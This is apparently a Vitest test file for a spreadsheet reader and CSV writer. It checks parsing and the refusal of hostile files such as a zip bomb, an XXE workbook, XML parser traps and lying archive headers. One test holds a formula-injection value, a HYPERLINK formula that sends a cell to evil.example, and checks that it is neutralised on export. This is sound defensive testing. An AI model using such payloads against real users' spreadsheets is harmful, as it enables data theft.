import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { deflateRawSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { effortOf } from '../../test-effort.ts'
import { root } from '../root.ts'
import { readSheet } from './read.ts'
import { archive } from './test-workbook.ts'
import { csvText } from './write-csv.ts'

const encode = (text: string): Uint8Array => new TextEncoder().encode(text)
const file = (name: string): Uint8Array => readFileSync(join(root, 'e2e/bad-inputs/files', name))
const cellsOf = async (bytes: Uint8Array, name = 'sheet.csv'): Promise<readonly (readonly string[])[]> => {
  const read = await readSheet(bytes, name)
  if (!read.ok) throw new Error(read.problems[0]?.message)
  return [read.value.columns, ...read.value.rows.map((row) => row.cells)]
}
const refusal = async (bytes: Uint8Array, name = 'sheet.csv'): Promise<string> => {
  const read = await readSheet(bytes, name)
  return read.ok ? `read ${read.value.rows.length} rows` : `${read.problems[0]?.code}: ${read.problems[0]?.message}`
}

test('a plain CSV has headings and rows, each with its line', async () => {
  const read = await readSheet(encode('name,hours\nAna Bell,30\n\nCy Dow,16\n'), 'a.csv')
  expect(read).toMatchObject({
    ok: true,
    value: {
      columns: ['name', 'hours'],
      rows: [
        { line: 2, cells: ['Ana Bell', '30'] },
        { line: 4, cells: ['Cy Dow', '16'] },
      ],
    },
  })
})

test('cells pasted from a spreadsheet are separated by tabs, and may hold commas', async () => {
  expect(await cellsOf(encode('name\thours\nBell, Ana\t30'), 'pasted')).toEqual([
    ['name', 'hours'],
    ['Bell, Ana', '30'],
  ])
})

test('quotes keep separators, quotes and line ends inside a cell', async () => {
  expect(await cellsOf(encode('name,note\r\n"Bell, Ana","said ""yes""\nand came"\r\n'))).toEqual([
    ['name', 'note'],
    ['Bell, Ana', 'said "yes"\nand came'],
  ])
})

test('UTF-16 with its mark is read as such (BI-C01)', async () => {
  expect(await cellsOf(file('utf16le-bom.csv'))).toEqual([
    ['period', 'value', 'place'],
    ['2026-01', '41', 'Añelo County'],
  ])
})

test('the mark at the start of a UTF-8 file is not part of the first heading (BI-C03)', async () => {
  expect(await cellsOf(file('utf8-bom-header.csv'))).toEqual([
    ['period', 'value'],
    ['2026-01', '41'],
  ])
})

test('letters that are not UTF-8 are refused with their line, and a way out', async () => {
  const latin = Buffer.concat([encode('name\nAna\n'), Buffer.from([0x4d, 0x75, 0xf1, 0x6f, 0x7a]), encode('\n')])
  expect(await refusal(latin)).toBe(
    'sheet.encoding: Line 3 has letters in an encoding that cannot be told for sure. Open the file in your spreadsheet program, save it as “CSV UTF-8”, and send that.',
  )
})

test('a quote that is never closed is named by its line (BI-C05)', async () => {
  expect(await refusal(file('unclosed-quote.csv'))).toBe(
    'sheet.quote: Line 2 opens a quote (") that is never closed. Close it or take it away, then send the file again.',
  )
})

test('a quote closed in the middle of a cell does not swallow rows', async () => {
  expect(await refusal(encode('a,b\n1,"x\n2,"y\n'))).toBe(
    'sheet.quote: Line 3 has text after a closing quote. Check the quotes (") on that line.',
  )
})

test('LF, CRLF and a bare CR each end a row (BI-C13)', async () => {
  expect(await cellsOf(file('mixed-newlines.csv'))).toEqual([
    ['period', 'value'],
    ['2026-01', '41'],
    ['2026-02', '38'],
    ['2026-03', '35\n36'],
  ])
})

test('a semicolon separates where the headings use it (BI-C09)', async () => {
  expect((await cellsOf(file('locale-numbers.csv')))[1]).toEqual(['2026-01', '1.234,5'])
})

test('a workbook that unpacks to 100 MB is refused with little effort (BI-X01)', async () => {
  let refused = ''
  const effort = await effortOf(async () => {
    refused = await refusal(file('bomb-100mb.xlsx'), 'bomb.xlsx')
  })
  expect(refused).toMatch(/^sheet\.unpacks-too-large: /)
  expect(effort).toBeLessThan(5)
})

test('a document type in a workbook is refused, and no file is opened (BI-X05)', async () => {
  expect(await refusal(file('xxe-file.xlsx'), 'a.xlsx')).toMatch(/^sheet\.document-type: /)
})

test('a web page named .xlsx is refused by its content (BI-X09)', async () => {
  expect(await refusal(file('html-named.xlsx'), 'html-named.xlsx')).toMatch(
    /^sheet\.not-a-sheet: The content does not match the type/,
  )
})

test('the size a sheet claims for itself is not believed (BI-X12)', async () => {
  let rows: Awaited<ReturnType<typeof cellsOf>> = []
  const effort = await effortOf(async () => {
    rows = await cellsOf(file('dimension-lie.xlsx'), 'a.xlsx')
  })
  expect(rows).toHaveLength(2)
  expect(effort).toBeLessThan(5)
})

test('a formula keeps its saved value and is told; an error is marked as one (BI-X16)', async () => {
  const read = await readSheet(file('formula-and-error.xlsx'), 'a.xlsx')
  if (!read.ok) throw new Error('not read')
  const marked = read.value.rows.flatMap((row) => [...row.marks].map(([column, mark]) => [row.cells[column], mark]))
  const left = read.value.rows.flatMap((row) => [...row.formulas].map((column) => row.cells[column]))
  expect(left).toContain('41')
  expect(marked).toContainEqual(['#DIV/0!', 'error'])
})

test('a cut-off workbook is called damaged (BI-X18)', async () => {
  expect(await refusal(file('truncated.xlsx'), 'a.xlsx')).toMatch(/^sheet\.damaged: The file is damaged/)
})

/** A workbook whose sheet is what is said, with more parts beside it. */
const bookOf = (sheet: string, more: Readonly<Record<string, string>> = {}): Uint8Array =>
  archive({
    'xl/workbook.xml': '<workbook><sheets><sheet name="Sheet1" r:id="rId1"/></sheets></workbook>',
    'xl/worksheets/sheet1.xml': sheet,
    ...more,
  })
const cell = (text: string): string =>
  `<x:worksheet xmlns:x="s"><x:row r="1"><x:c r="A1" t="inlineStr"><x:is><x:t>name</x:t></x:is></x:c></x:row><x:row r="2"><x:c r="A2" t="inlineStr"><x:is><x:t>${text}</x:t></x:is></x:c></x:row></x:worksheet>`

test('letters of a workbook are read however XML writes them', async () => {
  const written = 'Ana &amp; &lt;Bo&gt; &quot;C&quot; &apos;d&apos; &#209;&#xf1; <![CDATA[<e> &amp;]]> Muñoz 🙂'
  expect(await cellsOf(bookOf(cell(written)), 'a.xlsx')).toEqual([
    ['name'],
    [`Ana & <Bo> "C" 'd' Ññ <e> &amp; Muñoz 🙂`],
  ])
})

test('a long sheet is read whole, also where it is not packed', async () => {
  const row = (at: number): string => `<row r="${at}"><c r="A${at}" t="inlineStr"><is><t>Ana Ñ ${at}</t></is></c></row>`
  const sheet = `<worksheet>${Array.from({ length: 30_000 }, (_, at) => row(at + 1)).join('')}</worksheet>`
  const cells = await cellsOf(bookOf(sheet), 'a.xlsx')
  expect(cells.every(([cell], at) => cell === `Ana Ñ ${at + 1}`)).toBe(true)
  expect(cells).toHaveLength(30_000)
})

test('XML that is none is called damaged, and no traps in it take time or memory', async () => {
  const damaged = /^sheet\.damaged: The file is damaged: a part of it cannot be read/
  const effort = await effortOf(async () => {
    for (const sheet of [
      cell('Ana').replace('</x:worksheet>', ''),
      cell('Ana').replace('</x:is></x:c>', '</x:c></x:is>'),
      cell('Ana &lol; Bo'),
      cell('Ana &#0;'),
      'name',
      '',
      '<a>'.repeat(1_000_000),
      `<a ${Array.from({ length: 200_000 }, (_, at) => `a${at}=""`).join(' ')}/>`,
    ])
      expect(await refusal(bookOf(sheet), 'a.xlsx'), sheet.slice(0, 400)).toMatch(damaged)
  })
  expect(effort).toBeLessThan(20)
})

test('an archive that is locked, has too many parts, or one of them twice, is refused', async () => {
  const locked = Buffer.from(bookOf(cell('Ana')))
  locked[locked.indexOf('PK\u0001\u0002') + 8] = 1
  expect(await refusal(locked, 'a.xlsx')).toMatch(/^sheet\.locked: The file is locked with a password/)
  const many = Object.fromEntries(Array.from({ length: 199 }, (_, at) => [`xl/media/${at}`, '']))
  expect(await refusal(bookOf(cell('Ana'), many), 'a.xlsx')).toMatch(/^sheet\.too-many-parts: /)
  const twice = bookOf(cell('Ana'), { 'xl/worksheets/sheet2.xml': cell('Bo') })
  const renamed = Buffer.from(Buffer.from(twice).toString('latin1').replaceAll('sheet2.xml', 'sheet1.xml'), 'latin1')
  expect(await refusal(renamed, 'a.xlsx')).toMatch(/^sheet\.damaged: The file is damaged/)
})

test('an old workbook, a PDF and a picture are told apart from a sheet', async () => {
  expect(await refusal(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0, 0]), 'a.xls')).toMatch(/^sheet\.old-workbook/)
  expect(await refusal(encode('%PDF-1.7'), 'a.csv')).toMatch(/^sheet\.not-a-sheet/)
  expect(await refusal(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0]), 'a.csv')).toMatch(/^sheet\.not-a-sheet/)
  expect(await refusal(new Uint8Array(), 'a.csv')).toBe('sheet.empty: The file is empty.')
})

test('200,000 rows are read and one more is refused', async () => {
  const rows = (count: number): Uint8Array => encode(`name\n${'Ana\n'.repeat(count)}`)
  expect(await refusal(rows(200_000))).toBe('read 200000 rows')
  expect(await refusal(rows(200_001))).toMatch(/^sheet\.too-long: The sheet has more than 200,000 rows/)
})

test('more than 10 MB is refused', async () => {
  expect(await refusal(new Uint8Array(10 * 1024 * 1024 + 1).fill(65))).toMatch(
    /^sheet\.too-large: The file is larger than 10 MB/,
  )
})

test('an archive whose parts unpack to more than it says is stopped at the bound', async () => {
  const lying = zipOf('xl/workbook.xml', Buffer.alloc(60 * 1024 * 1024, 32), 100)
  expect(await refusal(lying, 'a.xlsx')).toMatch(/^sheet\.unpacks-too-large/)
})

test('what we write as CSV comes back as it was, and no program takes it for a formula (BI-F61, BI-F65)', async () => {
  const name = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
  const text = csvText([
    ['name', 'value'],
    [name, -5],
    ['Siobhán O’Brien-Ñuñez', '-5'],
  ])
  expect(text).toContain(`"'=HYPERLINK(`)
  expect(text).toContain(',-5\r\n')
  expect(await cellsOf(encode(text))).toEqual([
    ['name', 'value'],
    [name, '-5'],
    ['Siobhán O’Brien-Ñuñez', '-5'],
  ])
})

/** An archive of one part that claims to unpack to `claimed` bytes. */
function zipOf(name: string, content: Buffer, claimed: number): Buffer {
  const packed = deflateRawSync(content)
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(claimed, 22)
  local.writeUInt16LE(name.length, 26)
  const central = Buffer.alloc(46)
  central.writeUInt32LE(0x02014b50, 0)
  central.writeUInt16LE(8, 10)
  central.writeUInt32LE(packed.length, 20)
  central.writeUInt32LE(claimed, 24)
  central.writeUInt16LE(name.length, 28)
  const body = Buffer.concat([local, Buffer.from(name), packed])
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length + name.length, 12)
  end.writeUInt32LE(body.length, 16)
  return Buffer.concat([body, central, Buffer.from(name), end])
}
